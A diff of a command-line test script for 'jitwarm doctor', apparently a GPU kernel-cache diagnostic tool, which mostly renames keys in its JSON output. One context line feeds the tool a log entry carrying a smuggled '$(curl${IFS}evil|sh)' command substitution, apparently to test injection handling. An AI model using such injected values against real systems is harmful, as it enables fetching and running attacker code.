@@ -7,11 +7,10 @@ $ jitwarm doctor lib
 [good] All * modules of these files are in this cache for sm_*, driver *. A fresh process loaded them and * nothing.
 Cache {work}/cache
 $ jitwarm doctor --json lib
-keys doctor, answer
 .result = "warm"
 .answer.is = "warm"
-.answer.proven = true
-.machine.container = false
+.proof.proven = true
+.container = false
 
 case warm-and-open: primed
 skip windows
@@ -38,7 +37,6 @@ To do jitwarm prime lib
 - Seen *
 - Note The cache *
 $ jitwarm doctor --json lib
-keys doctor, answer
 ? 1
 .cause.id = "cold"
 .answer.is = "cold"
@@ -70,7 +68,6 @@ jitwarm prime
 $ jitwarm doctor --json --log - <a.log
 ? 1
 .result = "found"
-.log.sm = 86
 $ echo 'W x.cc:1] Relying on driver to perform ptx compilation.' >>a.log; jitwarm doctor --log a.log
 ? 1
 [bad] Line 1: the start waited 3 min 56 s, as it does where the driver compiles.
@@ -94,7 +91,7 @@ $ printf '%s\n' 'ImportError: libcu$(curl${IFS}evil|sh): cannot open shared obje
 ldconfig -p | grep libcu
 $ jitwarm doctor --json --log a.log
 ? 1
-.log.errors.1.line = 3
+.errors.1.line = 3
 .todo.0.text ~ "install a build for this GPU"
 .todo.1.command = "jitwarm scan PATH"
 
